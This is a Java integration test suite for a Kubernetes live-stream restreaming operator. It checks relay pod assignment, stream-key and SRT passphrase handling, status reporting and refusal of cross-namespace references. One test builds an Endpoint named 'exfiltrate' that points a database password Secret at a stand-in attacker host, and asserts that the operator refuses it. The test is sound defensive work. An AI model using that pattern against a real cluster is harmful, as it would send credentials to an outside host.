package dev.onair.operator.restream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import dev.onair.api.v1alpha1.DesiredState;
import dev.onair.api.v1alpha1.Endpoint;
import dev.onair.api.v1alpha1.EndpointSpec;
import dev.onair.api.v1alpha1.KeyRef;
import dev.onair.api.v1alpha1.LiveStream;
import dev.onair.api.v1alpha1.LiveStreamPhase;
import dev.onair.api.v1alpha1.ObjectRef;
import dev.onair.api.v1alpha1.Platform;
import dev.onair.api.v1alpha1.Restream;
import dev.onair.api.v1alpha1.RestreamPhase;
import dev.onair.api.v1alpha1.RestreamSpec;
import dev.onair.apiserver.ApiServer;
import dev.onair.operator.ApiRequests;
import dev.onair.operator.Edits;
import dev.onair.operator.FakeMediaPod;
import dev.onair.operator.Kubelet;
import dev.onair.operator.TestApiServer;
import dev.onair.operator.TestStreams;
import dev.onair.operator.common.ConsentedObjects;
import io.fabric8.kubernetes.api.model.LabelSelectorBuilder;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.SecretBuilder;
import io.fabric8.kubernetes.client.KubernetesClient;
import io.fabric8.kubernetes.client.KubernetesClientException;
import io.fabric8.kubernetes.client.utils.Serialization;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Predicate;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

@QuarkusTest
@WithTestResource(
    value = TestApiServer.class,
    initArgs = @ResourceArg(name = TestApiServer.NAMESPACES, value = RestreamReconcilerTest.NS))
class RestreamReconcilerTest {
  static final String NS = "broadcast";
  static final Duration WAIT = Duration.ofSeconds(15);
  static final String ENCODER_IP = "127.0.0.1";
  static final String RELAY_IP = "127.0.0.2";
  static FakeMediaPod encoder;
  static FakeMediaPod relay;

  @TestApiServer.Inject ApiServer server;
  @Inject KubernetesClient client;
  @Inject io.micrometer.core.instrument.MeterRegistry meters;

  @BeforeAll
  static void fakePods() throws Exception {
    encoder = new FakeMediaPod(ENCODER_IP, FakeMediaPod.podPort());
    encoder.answer(
        "/status",
        "{\"version\":1,\"state\":\"Live\",\"fps\":30.0,\"bitrateKbps\":3000,\"sourceConnected\":true,\"slateActive\":false}");
    relay = new FakeMediaPod(RELAY_IP, FakeMediaPod.podPort());
    relayReports(Map.of());
  }

  @AfterAll
  static void stopFakes() {
    encoder.close();
    relay.close();
  }

  /** What every relay's /status says: these outputs with these states, all others Connecting. */
  /** The one relay pod of {@code restream} that replaced {@code pod}. */
  private Pod awaitReplacement(String restream, Pod pod) {
    return await()
        .atMost(WAIT)
        .until(
            () -> relayPods(restream),
            p ->
                p.size() == 1
                    && !p.get(0).getMetadata().getUid().equals(pod.getMetadata().getUid()))
        .get(0);
  }

  static void relayReports(Map<String, String> states) {
    relayReports(states, 3100);
  }

  static void relayReports(Map<String, String> states, int bitrateKbps) {
    relayReports(states, bitrateKbps, "2026-11-21T06:00:00Z");
  }

  /** As above, each output in its state since {@code since}. */
  static void relayReports(Map<String, String> states, int bitrateKbps, String since) {
    List<Map<String, Object>> outputs = new ArrayList<>();
    states.forEach(
        (name, state) ->
            outputs.add(
                Map.of(
                    "name",
                    name,
                    "url",
                    "rtmp://ingest.test/app/****",
                    "state",
                    state,
                    "since",
                    since,
                    "bytesSent",
                    1000,
                    "bitrateKbps",
                    bitrateKbps,
                    "reconnects",
                    "Live".equals(state) ? 0 : 2,
                    "lastError",
                    "Live".equals(state) ? "" : "connection refused")));
    relay.answer(
        "/status",
        Serialization.asJson(
            Map.of("version", 1, "input", Map.of("connected", true), "outputs", outputs)));
  }

  @Test
  void eightEndpointsMakeTwoRelayPodsAndRemovingOneReplacesOnlyItsPod() {
    onAir("show-a");
    endpoints("a", 8);
    client.resource(restream("show-a", "show-a", names("a", 8))).create();

    List<Pod> pods = await().atMost(WAIT).until(() -> relayPods("show-a"), p -> p.size() == 2);
    assertThat(pods.stream().map(p -> RelayPodDependent.assignment(p).size()).sorted().toList())
        .containsExactly(2, 6);
    Pod full =
        pods.stream()
            .filter(p -> RelayPodDependent.assignment(p).size() == 6)
            .findFirst()
            .orElseThrow();
    Pod small =
        pods.stream()
            .filter(p -> RelayPodDependent.assignment(p).size() == 2)
            .findFirst()
            .orElseThrow();

    // Remove an endpoint of the small pod: exactly that pod is replaced, the full one keeps its
    // uid.
    String removed = RelayPodDependent.assignment(small).keySet().iterator().next();
    editRestream("show-a", r -> r.getSpec().endpointRefs.removeIf(ref -> ref.name.equals(removed)));
    List<Pod> after =
        await()
            .atMost(WAIT)
            .until(
                () -> relayPods("show-a"),
                p ->
                    p.size() == 2
                        && p.stream()
                            .noneMatch(
                                x ->
                                    x.getMetadata().getUid().equals(small.getMetadata().getUid())));
    assertThat(uids(after)).contains(full.getMetadata().getUid());
    assertThat(after.stream().flatMap(p -> RelayPodDependent.assignment(p).keySet().stream()))
        .hasSize(7)
        .doesNotContain(removed);

    // A ninth output lands in the pod with room; the full pod is still untouched.
    editRestream("show-a", r -> r.getSpec().endpointRefs.add(new ObjectRef(removed)));
    endpoint("a-extra", "rtmp://ingest.test/app", "a-extra-keys", "k", Map.of("k", "extra-key"));
    editRestream("show-a", r -> r.getSpec().endpointRefs.add(new ObjectRef("a-extra")));
    List<Pod> nine =
        await()
            .atMost(WAIT)
            .until(
                () -> relayPods("show-a"),
                p -> p.stream().mapToInt(x -> RelayPodDependent.assignment(x).size()).sum() == 9);
    assertThat(nine).hasSize(2);
    assertThat(uids(nine)).contains(full.getMetadata().getUid());

    Restream status =
        awaitStatus(
            "show-a",
            r -> r.getStatus().relays.size() == 2 && r.getStatus().outputStatuses.size() == 9);
    assertThat(status.getStatus().relays.stream().map(x -> x.pod).collect(Collectors.toSet()))
        .isEqualTo(Set.copyOf(names(nine)));
  }

  @Test
  void anEndpointNamingASecretWithoutConsentIsRefusedAndNoRelayEverGetsIt() {
    onAir("show-k");
    endpoints("k", 1);
    // A Secret the Endpoint's author may name but OnAir may not use: the database password.
    client
        .resource(
            new SecretBuilder()
                .withNewMetadata()
                .withName("database")
                .withNamespace(NS)
                .endMetadata()
                .addToStringData("password", "hunter2-db-password")
                .build())
        .create();
    endpoint(
        "exfiltrate",
        "rtmp://attacker.example/live",
        "database",
        "password",
        Map.of(),
        Platform.custom);
    client.resource(restream("show-k", "show-k", List.of("k1", "exfiltrate"))).create();

    Endpoint refused =
        await()
            .atMost(WAIT)
            .until(
                () -> getEndpoint("exfiltrate"),
                e -> e != null && e.getStatus() != null && "Invalid".equals(e.getStatus().phase));
    assertThat(refused.getStatus().conditions.get(0).getReason()).isEqualTo("SecretNotFound");
    assertThat(refused.getStatus().message)
        .startsWith("spec.streamKeySecretRef:")
        .contains("kubectl label secret database streaming.onair.dev/usable=true")
        .doesNotContain("hunter2");
    Pod relay = await().atMost(WAIT).until(() -> relayPods("show-k"), p -> p.size() == 1).get(0);
    String json = Serialization.asJson(relay);
    assertThat(json)
        .doesNotContain("database")
        .doesNotContain("attacker.example")
        .doesNotContain("hunter2");
    assertThat(
            Serialization.asJson(
                client.resources(Restream.class).inNamespace(NS).withName("show-k").get()))
        .doesNotContain("hunter2");
  }

  @Test
  void noStreamKeyAppearsInAnyPodSpecAndKeysArriveAsProjectedFiles() {
    onAir("show-b");
    endpoints("b", 2);
    client.resource(restream("show-b", "show-b", names("b", 2))).create();
    Pod pod = await().atMost(WAIT).until(() -> relayPods("show-b"), p -> p.size() == 1).get(0);
    String json = Serialization.asJson(pod);
    assertThat(json).doesNotContain("secret-key-b1").doesNotContain("secret-key-b2");
    assertThat(json)
        .doesNotContain(
            Base64.getEncoder().encodeToString("secret-key-b1".getBytes(StandardCharsets.UTF_8)));
    var keys =
        pod.getSpec().getVolumes().stream()
            .filter(v -> v.getProjected() != null)
            .findFirst()
            .orElseThrow();
    assertThat(keys.getProjected().getSources())
        .allSatisfy(s -> assertThat(s.getSecret().getName()).isEqualTo("b-keys"));
    assertThat(pod.getMetadata().getAnnotations().get(RelayPodDependent.OUTPUTS_ANNOTATION))
        .contains("\"keyFile\":\"/var/run/secrets/onair/keys/b1\"")
        .contains("rtmp://ingest.test/app");
    var env =
        pod.getSpec().getContainers().get(0).getEnv().stream()
            .collect(Collectors.toMap(e -> e.getName(), e -> e.getValue()));
    assertThat(env)
        .containsEntry(
            "ONAIR_INPUT_URL",
            "http://show-b-encoder.broadcast.svc:" + FakeMediaPod.podPort() + "/live.ts");
  }

  @Test
  void
      anSrtEndpointsPassphraseIsRefusedUntilConsentedThenProjectedAsAFileOnlyAndRotatingItReplacesTheRelay() {
    String passphrase = "own-gateway-passphrase-58";
    onAir("show-p");
    client
        .resource(
            new SecretBuilder()
                .withNewMetadata()
                .withName("gw-srt")
                .withNamespace(NS)
                .endMetadata()
                .addToStringData("passphrase", passphrase)
                .build())
        .create();
    client
        .resource(srtEndpoint("gw", "srt://gateway.test:9000", new KeyRef("gw-srt", "passphrase")))
        .create();
    client.resource(restream("show-p", "show-p", List.of("gw"))).create();

    Endpoint refused =
        await()
            .atMost(WAIT)
            .until(
                () -> getEndpoint("gw"),
                e -> e != null && e.getStatus() != null && "Invalid".equals(e.getStatus().phase));
    assertThat(refused.getStatus().conditions.get(0).getReason()).isEqualTo("SecretNotFound");
    assertThat(refused.getStatus().message)
        .startsWith("spec.passphraseSecretRef:")
        .contains("kubectl label secret gw-srt streaming.onair.dev/usable=true");
    awaitStatus("show-p", r -> r.getStatus().phase == RestreamPhase.Failed);
    assertThat(relayPods("show-p")).isEmpty();

    client
        .secrets()
        .inNamespace(NS)
        .withName("gw-srt")
        .edit(
            sec ->
                new SecretBuilder(sec)
                    .editMetadata()
                    .addToLabels(ConsentedObjects.LABEL, "true")
                    .endMetadata()
                    .build());
    await().atMost(WAIT).until(() -> getEndpoint("gw"), e -> "Ready".equals(e.getStatus().phase));
    Pod pod = await().atMost(WAIT).until(() -> relayPods("show-p"), p -> p.size() == 1).get(0);
    var projected =
        pod.getSpec().getVolumes().stream()
            .filter(v -> v.getName().equals("srt-passphrases"))
            .findFirst()
            .orElseThrow();
    assertThat(projected.getProjected().getSources())
        .singleElement()
        .satisfies(
            src -> {
              assertThat(src.getSecret().getName()).isEqualTo("gw-srt");
              assertThat(src.getSecret().getItems().get(0).getKey()).isEqualTo("passphrase");
              assertThat(src.getSecret().getItems().get(0).getPath()).isEqualTo("gw");
            });
    assertThat(pod.getSpec().getContainers().get(0).getVolumeMounts())
        .anySatisfy(
            m -> {
              assertThat(m.getMountPath()).isEqualTo("/var/run/secrets/onair/srt-passphrases");
              assertThat(m.getReadOnly()).isTrue();
            });
    assertThat(pod.getMetadata().getAnnotations().get(RelayPodDependent.OUTPUTS_ANNOTATION))
        .isEqualTo(
            "{\"outputs\":[{\"name\":\"gw\",\"url\":\"srt://gateway.test:9000\","
                + "\"passphraseFile\":\"/var/run/secrets/onair/srt-passphrases/gw\"}]}");
    String encoded =
        Base64.getEncoder().encodeToString(passphrase.getBytes(StandardCharsets.UTF_8));
    assertThat(Serialization.asJson(pod)).doesNotContain(passphrase).doesNotContain(encoded);
    assertThat(
            Serialization.asJson(
                client.resources(Restream.class).inNamespace(NS).withName("show-p").get()))
        .doesNotContain(passphrase);
    assertThat(Serialization.asJson(getEndpoint("gw"))).doesNotContain(passphrase);

    String first = pod.getMetadata().getName();
    client
        .secrets()
        .inNamespace(NS)
        .withName("gw-srt")
        .edit(
            sec ->
                new SecretBuilder(sec)
                    .withData(null)
                    .withStringData(Map.of("passphrase", "rotated-gateway-passphrase"))
                    .build());
    await()
        .atMost(WAIT)
        .until(
            () -> relayPods("show-p"),
            p -> p.size() == 1 && !p.get(0).getMetadata().getName().equals(first));
  }

  @Test
  void anSrtEndpointUrlCarryingItsPassphraseIsRefusedByTheApiPointingAtTheSecretField() {
    assertThatThrownBy(
            () ->
                client
                    .resource(
                        srtEndpoint(
                            "leaky", "srt://gateway.test:9000?passphrase=hunter22hunter", null))
                    .create())
        .isInstanceOfSatisfying(
            KubernetesClientException.class, e -> assertThat(e.getCode()).isEqualTo(422))
        .hasMessageContaining(
            "url: move the SRT passphrase out of the URL into passphraseSecretRef");
    assertThatThrownBy(
            () ->
                client
                    .resource(
                        srtEndpoint("rtmp-pass", "rtmp://ingest.test/app", new KeyRef("x", "y")))
                    .create())
        .isInstanceOfSatisfying(
            KubernetesClientException.class, e -> assertThat(e.getCode()).isEqualTo(422))
        .hasMessageContaining("passphraseSecretRef needs an srt:// url");
    assertThat(getEndpoint("leaky")).isNull();
    assertThat(getEndpoint("rtmp-pass")).isNull();
  }

  @Test
  void stopDeletesAllRelayPodsAndRunningAgainCreatesThem() {
    onAir("show-c");
    endpoints("c", 3);
    client.resource(restream("show-c", "show-c", names("c", 3))).create();
    await().atMost(WAIT).until(() -> relayPods("show-c"), p -> p.size() == 1);
    editRestream("show-c", r -> r.getSpec().state = DesiredState.Stopped);
    await().atMost(WAIT).until(() -> relayPods("show-c").isEmpty());
    assertThat(
            awaitStatus("show-c", r -> r.getStatus().phase == RestreamPhase.Stopped)
                .getStatus()
                .outputs)
        .isEqualTo("0/0");
    editRestream("show-c", r -> r.getSpec().state = DesiredState.Running);
    await().atMost(WAIT).until(() -> relayPods("show-c"), p -> p.size() == 1);
  }

  @Test
  void aStoppedLiveStreamMakesTheRestreamWaitAndItResumesByItself() {
    onAir("show-d");
    endpoints("d", 2);
    client.resource(restream("show-d", "show-d", names("d", 2))).create();
    await().atMost(WAIT).until(() -> relayPods("show-d"), p -> p.size() == 1);
    TestStreams.setState(client, NS, "show-d", DesiredState.Stopped);
    await().atMost(WAIT).until(() -> relayPods("show-d").isEmpty());
    Restream waiting = awaitStatus("show-d", r -> r.getStatus().phase == RestreamPhase.Waiting);
    assertThat(waiting.getStatus().message).contains("show-d").contains("Stopped");
    assertThat(waiting.getStatus().conditions)
        .anySatisfy(
            c -> {
              assertThat(c.getType()).isEqualTo("Ready");
              assertThat(c.getReason()).isEqualTo("LiveStreamOffAir");
            });
    TestStreams.setState(client, NS, "show-d", DesiredState.Running);
    markEncoderReady("show-d");
    await().atMost(WAIT).until(() -> relayPods("show-d"), p -> p.size() == 1);
  }

  @Test
  void aSecretCreatedLateMakesItsEndpointReadyAndItsOutputStart() {
    onAir("show-e");
    endpoint(
        "e1",
        "rtmps://live-api-s.facebook.com:443/rtmp",
        "late-keys",
        "e1",
        Map.of(),
        Platform.facebook);
    client.resource(restream("show-e", "show-e", List.of("e1"))).create();

    Endpoint invalid =
        await()
            .atMost(WAIT)
            .until(
                () -> getEndpoint("e1"),
                e -> e != null && e.getStatus() != null && "Invalid".equals(e.getStatus().phase));
    assertThat(invalid.getStatus().message)
        .startsWith("spec.streamKeySecretRef:")
        .contains("late-keys");
    assertThat(
            awaitStatus("show-e", r -> r.getStatus().phase == RestreamPhase.Failed)
                .getStatus()
                .message)
        .contains("e1");
    assertThat(relayPods("show-e")).isEmpty();

    secret("late-keys", Map.of("e1", "fb-key"));
    await().atMost(WAIT).until(() -> getEndpoint("e1"), e -> "Ready".equals(e.getStatus().phase));
    await().atMost(WAIT).until(() -> relayPods("show-e"), p -> p.size() == 1);
  }

  @Test
  void anEndpointWithTheWrongSchemeForItsPlatformIsRefusedByTheApiNamingTheField() {
    // The CRD's rule refuses it before the operator could see it, as in a cluster; the operator's
    // own check of the same rule (for a cluster with a stale CRD) is in ExamplesTest.
    assertThatThrownBy(
            () ->
                endpoint(
                    "fb-plain",
                    "rtmp://live-api-s.facebook.com/rtmp",
                    "fb-keys",
                    "k",
                    Map.of("k", "x"),
                    Platform.facebook))
        .isInstanceOfSatisfying(
            KubernetesClientException.class, e -> assertThat(e.getCode()).isEqualTo(422))
        .hasMessageContaining(
            "Endpoint.streaming.onair.dev \"fb-plain\" is invalid: spec: Invalid value:"
                + " \"object\": url: Facebook accepts rtmps:// only");
    assertThat(getEndpoint("fb-plain")).isNull();
  }

  @Test
  void aFailedRelayPodIsReplacedAfterABackoffAndTheFailureIsReported() {
    onAir("show-h");
    endpoints("h", 2);
    client.resource(restream("show-h", "show-h", names("h", 2))).create();
    Pod pod = await().atMost(WAIT).until(() -> relayPods("show-h"), p -> p.size() == 1).get(0);
    java.time.Instant failedAt = java.time.Instant.now();
    Kubelet.failed(client, pod, 1, "input read failed");
    Pod replacement = awaitReplacement("show-h", pod);
    assertThat(Duration.between(failedAt, java.time.Instant.now()))
        .isGreaterThanOrEqualTo(Duration.ofMillis(250));
    assertThat(RelayPodDependent.assignment(replacement).keySet()).containsExactly("h1", "h2");
    Restream status = awaitStatus("show-h", r -> r.getStatus().restarts != null);
    assertThat(status.getStatus().restarts).isEqualTo(1);
    assertThat(status.getStatus().lastError)
        .contains("exited with code 1")
        .contains("input read failed");
  }

  @Test
  void relayFailuresAreForgivenOnlyOnceEveryOutputHasBeenLiveForHealthyAfter() {
    onAir("show-heal");
    endpoints("heal", 1);
    client.resource(restream("show-heal", "show-heal", names("heal", 1))).create();
    Pod pod = await().atMost(WAIT).until(() -> relayPods("show-heal"), p -> p.size() == 1).get(0);
    Kubelet.failed(client, pod, 1, "input read failed");
    Pod replacement = awaitReplacement("show-heal", pod);
    java.time.Instant liveSince = java.time.Instant.now().truncatedTo(ChronoUnit.SECONDS);
    relayReports(Map.of("heal1", "Live"), 3100, liveSince.toString());
    Kubelet.ready(client, replacement, RELAY_IP);

    // Live again, but for less than healthy-after (2 s): the failure still counts.
    Restream live = awaitStatus("show-heal", r -> r.getStatus().phase == RestreamPhase.Live);
    assertThat(live.getStatus().restarts).isEqualTo(1);
    assertThat(live.getStatus().lastError).contains("input read failed");

    Restream forgiven = awaitStatus("show-heal", r -> r.getStatus().restarts == null);
    assertThat(java.time.Instant.now()).isAfterOrEqualTo(liveSince.plusSeconds(2));
    assertThat(forgiven.getStatus().phase).isEqualTo(RestreamPhase.Live);
    assertThat(forgiven.getStatus().lastFailureAt).isNull();
    assertThat(forgiven.getStatus().lastError).isNull();
  }

  @Test
  void anEndpointsUsedByForgetsARestreamThatDropsItAndOneThatIsDeleted() {
    onAir("show-u");
    endpoints("u", 2);
    client.resource(restream("show-u", "show-u", names("u", 2))).create();
    for (String endpoint : names("u", 2)) {
      await().atMost(WAIT).until(() -> usedBy(endpoint), u -> u.contains("show-u"));
    }

    editRestream("show-u", r -> r.getSpec().endpointRefs.removeIf(ref -> ref.name.equals("u2")));
    await().atMost(WAIT).until(() -> usedBy("u2"), List::isEmpty);
    assertThat(usedBy("u1")).containsExactly("show-u");

    client.resources(Restream.class).inNamespace(NS).withName("show-u").delete();
    await().atMost(WAIT).until(() -> usedBy("u1"), List::isEmpty);
    assertThat(usedBy("u2")).isEmpty();
  }

  @Test
  void perOutputStatusComesFromTheRelaysAndIdleResyncsWriteNothing() throws Exception {
    onAir("show-f");
    endpoints("f", 3);
    client.resource(restream("show-f", "show-f", names("f", 3))).create();
    Pod pod = await().atMost(WAIT).until(() -> relayPods("show-f"), p -> p.size() == 1).get(0);
    relayReports(Map.of("f1", "Live", "f2", "Live", "f3", "Reconnecting"));
    Kubelet.ready(client, pod, RELAY_IP);

    Restream degraded = awaitStatus("show-f", r -> r.getStatus().phase == RestreamPhase.Degraded);
    assertThat(degraded.getStatus().outputs).isEqualTo("2/3");
    var f3 =
        degraded.getStatus().outputStatuses.stream()
            .filter(o -> o.endpoint.equals("f3"))
            .findFirst()
            .orElseThrow();
    assertThat(f3.state).isEqualTo("Reconnecting");
    assertThat(f3.relayPod).isEqualTo(pod.getMetadata().getName());
    assertThat(f3.reconnects).isEqualTo(2);
    assertThat(f3.lastError).isEqualTo("connection refused");
    var condition =
        degraded.getStatus().conditions.stream()
            .filter(c -> c.getType().equals("Degraded"))
            .findFirst()
            .orElseThrow();
    assertThat(condition.getStatus()).isEqualTo("True");
    assertThat(condition.getMessage()).contains("f3");
    await()
        .atMost(WAIT)
        .until(
            () -> getEndpoint("f3"),
            e ->
                e.getStatus().usedBy.stream()
                    .anyMatch(u -> u.restream.equals("show-f") && "Reconnecting".equals(u.state)));

    assertThat(
            meters
                .find("onair.restream.output.state")
                .tags("restream", "show-f", "endpoint", "f3", "state", "Reconnecting")
                .gauge()
                .value())
        .isEqualTo(1.0);
    assertThat(
            meters.find("onair.restream.phase").tags("name", "show-f", "phase", "Degraded").gauge())
        .isNotNull();

    relayReports(Map.of("f1", "Live", "f2", "Live", "f3", "Live"));
    Restream live = awaitStatus("show-f", r -> r.getStatus().phase == RestreamPhase.Live);
    assertThat(live.getStatus().outputs).isEqualTo("3/3");
    assertThat(
            live.getStatus().conditions.stream()
                .filter(c -> c.getType().equals("Ready"))
                .findFirst()
                .orElseThrow()
                .getStatus())
        .isEqualTo("True");

    // Idle: the relay keeps answering the same, the poller republishes every second and pod
    // informer resyncs happen; nothing about show-f may be written.
    ApiRequests.drain(server);
    client
        .pods()
        .inNamespace(NS)
        .withName(pod.getMetadata().getName())
        .edit(
            p -> {
              p.getMetadata().getLabels().put("touched", "1");
              return p;
            });
    Thread.sleep(3000);
    assertThat(
            ApiRequests.writesMentioning(server, "show-f").stream()
                .filter(
                    w ->
                        !w.startsWith("PATCH /api/v1/namespaces/broadcast/pods/")
                            && !w.startsWith("PUT /api/v1/namespaces/broadcast/pods/"))
                .toList())
        .isEmpty();

    // Bitrates wobble on air; a few percent is for the relay's metrics, not for a status write.
    relayReports(Map.of("f1", "Live", "f2", "Live", "f3", "Live"), 3350);
    ApiRequests.drain(server);
    Thread.sleep(3000);
    assertThat(ApiRequests.writesMentioning(server, "restreams/show-f")).isEmpty();
    // A fall by more than a fifth is news.
    relayReports(Map.of("f1", "Live", "f2", "Live", "f3", "Live"), 2000);
    awaitStatus(
        "show-f",
        r ->
            r.getStatus().outputStatuses.stream()
                .allMatch(o -> Integer.valueOf(2000).equals(o.bitrateKbps)));
  }

  @Test
  void referencesIntoOtherNamespacesAreRefused() {
    Restream r = restream("sneaky", "show-x", List.of("x1"));
    r.getSpec().liveStreamRef.namespace = "other-team";
    client.resource(r).create();
    Restream failed = awaitStatus("sneaky", x -> x.getStatus().phase == RestreamPhase.Failed);
    assertThat(failed.getStatus().message).startsWith("spec.liveStreamRef.namespace:");

    onAir("show-y");
    endpoints("y", 1);
    Restream r2 = restream("sneaky-endpoint", "show-y", List.of("y1"));
    ObjectRef foreign = new ObjectRef("their-youtube");
    foreign.namespace = "other-team";
    r2.getSpec().endpointRefs.add(foreign);
    client.resource(r2).create();
    Restream partial =
        awaitStatus(
            "sneaky-endpoint",
            x ->
                x.getStatus().conditions.stream()
                    .anyMatch(c -> c.getType().equals("Degraded") && "True".equals(c.getStatus())));
    assertThat(
            partial.getStatus().conditions.stream()
                .filter(c -> c.getType().equals("Degraded"))
                .findFirst()
                .orElseThrow()
                .getMessage())
        .contains("other-team/their-youtube")
        .contains("refused");
    await().atMost(WAIT).until(() -> relayPods("sneaky-endpoint"), p -> p.size() == 1);
  }

  @Test
  void anEndpointSelectorPicksEndpointsByLabel() {
    onAir("show-g");
    endpoint(
        "g1",
        "rtmp://ingest.test/app",
        "g-keys",
        "g1",
        Map.of("g1", "k1"),
        Platform.twitch,
        Map.of("team", "sports"));
    endpoint(
        "g2",
        "rtmp://ingest.test/app",
        "g-keys2",
        "g2",
        Map.of("g2", "k2"),
        Platform.youtube,
        Map.of("team", "news"));
    Restream r = restream("show-g", "show-g", List.of());
    r.getSpec().endpointSelector =
        new LabelSelectorBuilder().addToMatchLabels("team", "sports").build();
    client.resource(r).create();
    Pod pod = await().atMost(WAIT).until(() -> relayPods("show-g"), p -> p.size() == 1).get(0);
    assertThat(RelayPodDependent.assignment(pod).keySet()).containsExactly("g1");
  }

  // ---------------------------------------------------------------------------------------------

  private void onAir(String name) {
    client.resource(TestStreams.liveStream(NS, name)).create();
    markEncoderReady(name);
  }

  private void markEncoderReady(String name) {
    Pod pod =
        await()
            .atMost(WAIT)
            .until(
                () ->
                    client
                        .pods()
                        .inNamespace(NS)
                        .withLabel("app.kubernetes.io/instance", name)
                        .withLabel("app.kubernetes.io/component", "encoder")
                        .list()
                        .getItems(),
                p -> !p.isEmpty())
            .get(0);
    Kubelet.ready(client, pod, ENCODER_IP);
    await()
        .atMost(WAIT)
        .until(
            () -> client.resources(LiveStream.class).inNamespace(NS).withName(name).get(),
            l -> l.getStatus() != null && l.getStatus().phase == LiveStreamPhase.Live);
  }

  private void endpoints(String prefix, int n) {
    Map<String, String> keys =
        IntStream.rangeClosed(1, n)
            .boxed()
            .collect(Collectors.toMap(i -> prefix + i, i -> "secret-key-" + prefix + i));
    secret(prefix + "-keys", keys);
    for (int i = 1; i <= n; i++) {
      endpoint(prefix + i, "rtmp://ingest.test/app", prefix + "-keys", prefix + i, Map.of());
    }
  }

  private void endpoint(
      String name, String url, String secret, String key, Map<String, String> secretData) {
    endpoint(name, url, secret, key, secretData, Platform.custom);
  }

  private void endpoint(
      String name,
      String url,
      String secret,
      String key,
      Map<String, String> secretData,
      Platform platform) {
    endpoint(name, url, secret, key, secretData, platform, Map.of());
  }

  private void endpoint(
      String name,
      String url,
      String secret,
      String key,
      Map<String, String> secretData,
      Platform platform,
      Map<String, String> labels) {
    if (!secretData.isEmpty()) {
      secret(secret, secretData);
    }
    Endpoint e = new Endpoint();
    e.getMetadata().setName(name);
    e.getMetadata().setNamespace(NS);
    e.getMetadata().setLabels(labels);
    e.setSpec(new EndpointSpec());
    e.getSpec().platform = platform;
    e.getSpec().url = url;
    e.getSpec().streamKeySecretRef = new KeyRef(secret, key);
    client.resource(e).create();
  }

  /** A custom SRT Endpoint without a stream key, with {@code passphrase} when not null. */
  private static Endpoint srtEndpoint(String name, String url, KeyRef passphrase) {
    Endpoint e = new Endpoint();
    e.getMetadata().setName(name);
    e.getMetadata().setNamespace(NS);
    e.setSpec(new EndpointSpec());
    e.getSpec().platform = Platform.custom;
    e.getSpec().url = url;
    e.getSpec().passphraseSecretRef = passphrase;
    return e;
  }

  private void secret(String name, Map<String, String> data) {
    var b =
        new SecretBuilder()
            .withNewMetadata()
            .withName(name)
            .withNamespace(NS)
            .addToLabels(ConsentedObjects.LABEL, "true")
            .endMetadata();
    data.forEach(
        (k, v) ->
            b.addToData(k, Base64.getEncoder().encodeToString(v.getBytes(StandardCharsets.UTF_8))));
    client.resource(b.build()).create();
  }

  private Restream restream(String name, String liveStream, List<String> endpoints) {
    Restream r = new Restream();
    r.getMetadata().setName(name);
    r.getMetadata().setNamespace(NS);
    r.setSpec(new RestreamSpec());
    r.getSpec().liveStreamRef = new ObjectRef(liveStream);
    endpoints.forEach(e -> r.getSpec().endpointRefs.add(new ObjectRef(e)));
    return r;
  }

  private void editRestream(String name, java.util.function.Consumer<Restream> change) {
    Edits.retryOnConflict(
        () ->
            client
                .resources(Restream.class)
                .inNamespace(NS)
                .withName(name)
                .edit(
                    r -> {
                      change.accept(r);
                      return r;
                    }));
  }

  private Restream awaitStatus(String name, Predicate<Restream> condition) {
    return await()
        .atMost(WAIT)
        .until(
            () -> client.resources(Restream.class).inNamespace(NS).withName(name).get(),
            r -> r != null && r.getStatus() != null && condition.test(r));
  }

  /** The Restreams an Endpoint's status says send to it. */
  private List<String> usedBy(String endpoint) {
    Endpoint e = getEndpoint(endpoint);
    return e.getStatus() == null || e.getStatus().usedBy == null
        ? List.of()
        : e.getStatus().usedBy.stream().map(u -> u.restream).toList();
  }

  private Endpoint getEndpoint(String name) {
    return client.resources(Endpoint.class).inNamespace(NS).withName(name).get();
  }

  private List<Pod> relayPods(String restream) {
    return client
        .pods()
        .inNamespace(NS)
        .withLabel("app.kubernetes.io/instance", restream)
        .withLabel("app.kubernetes.io/component", "relay")
        .list()
        .getItems();
  }

  static List<String> names(String prefix, int n) {
    return IntStream.rangeClosed(1, n).mapToObj(i -> prefix + i).toList();
  }

  static List<String> names(List<Pod> pods) {
    return pods.stream().map(p -> p.getMetadata().getName()).toList();
  }

  static Set<String> uids(List<Pod> pods) {
    return pods.stream().map(p -> p.getMetadata().getUid()).collect(Collectors.toSet());
  }
}
